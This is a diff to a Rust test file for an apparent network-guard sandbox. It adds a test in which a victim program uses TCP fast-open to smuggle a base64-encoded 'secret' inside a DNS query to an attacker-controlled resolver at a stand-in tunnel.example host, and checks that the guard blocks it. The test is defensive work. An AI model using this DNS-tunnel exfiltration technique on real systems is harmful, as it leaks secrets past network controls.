@@ -11,7 +11,7 @@ fnguard_attacks::tests! { "network":
     address_exchanged_while_connecting, message_address_exchanged, descriptor_exchanged,
     unspecified_family_is_an_address, unspecified_family_in_a_message, unspecified_bind,
     v4_address_on_a_v6_socket, joined_datagram, joined_message, corked_datagram, segmented_datagram,
-    second_message_of_many, control_messages, control_messages_that_route, descriptors_in_messages, fast_open, resolver_in_a_datagram,
+    second_message_of_many, control_messages, control_messages_that_route, descriptors_in_messages, fast_open, fast_open_to_a_resolver, resolver_in_a_datagram,
     pointer_with_a_low_half_of_zero, unix_by_every_name, unix_datagrams, listening, listening_without_bind,
     unix_listening,
 }
@@ -419,6 +419,34 @@ fn fast_open() {
     assert_eq!(sink.connections(), 0);
     guarded.one_record("network", "sendto", &to);
     guarded.one_record("network", "setsockopt", "level 6, option 30");
+    // To an allowed peer a blocking socket waits, as the kernel has it, and all of it arrives.
+    let allowed = Tcp::on(ALLOWED);
+    let guarded = victim(["fast-open", &allowed.address.to_string(), "honest"]).under_guard(NET);
+    assert_eq!(allowed.bytes(), [b"honest"]);
+    assert_eq!(guarded.said("sendto"), 6, "{}", guarded.text());
+}
+
+/// A query by a stream that is connected and written to by one call: to a resolver of the
+/// attacker's, even where the policy lets the function connect there.
+fn fast_open_to_a_resolver() {
+    let sink = Tcp::at(&format!("{ALLOWED}:53"));
+    let to = sink.address.to_string();
+    for call in ["sendto", "sendmsg", "sendmmsg"] {
+        for way in ["waits", "does-not-wait"] {
+            let attack = victim(["fast-open-query", call, way, &to, "c2VjcmV0.tunnel.example"]);
+            let plain = attack.plain();
+            let stolen = sink.bytes();
+            assert!(
+                matches!(&stolen[..], [query] if query.windows(8).any(|part| part == b"c2VjcmV0")),
+                "{call}, {way}: {stolen:?}\n{}",
+                plain.text()
+            );
+            // The proxy, which is there now, answers.
+            let guarded = attack.with(["reads"]).under_guard(NET);
+            assert_eq!(sink.connections(), 0, "{call}, {way}\n{}", guarded.text());
+            guarded.only_record("network", "lookup", "c2vjcmv0.tunnel.example");
+        }
+    }
 }
 
 /// A query that carries what it wants to carry, to a resolver of the attacker's.
